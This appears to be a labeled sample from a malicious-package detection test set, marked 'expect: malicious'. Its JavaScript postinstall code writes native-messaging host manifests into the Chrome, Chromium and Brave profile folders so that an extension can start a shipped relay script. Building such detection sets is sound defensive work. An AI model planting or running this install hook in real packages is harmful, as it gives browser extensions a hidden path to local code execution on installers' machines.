// when: install
// expect: malicious
// source: blind set 22 (native-messaging-host-hijack): a devtools extension helper whose postinstall writes a
// native-messaging host manifest into every Chromium browser's NativeMessagingHosts folder, allowing its extension id
// to start a relay script the package ships.
import { mkdirSync, writeFileSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';
const HOST = 'com.webext_devtools.relay';
for (const b of ['google-chrome', 'chromium', 'BraveSoftware/Brave-Browser']) {
  const dir = join(homedir(), '.config', b, 'NativeMessagingHosts');
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, HOST + '.json'), JSON.stringify({ name: HOST, path: join(process.cwd(), 'host', 'relay.sh'), type: 'stdio', allowed_origins: ['chrome-extension://fakefakefakefakefakefakefakefake/'] }));
}
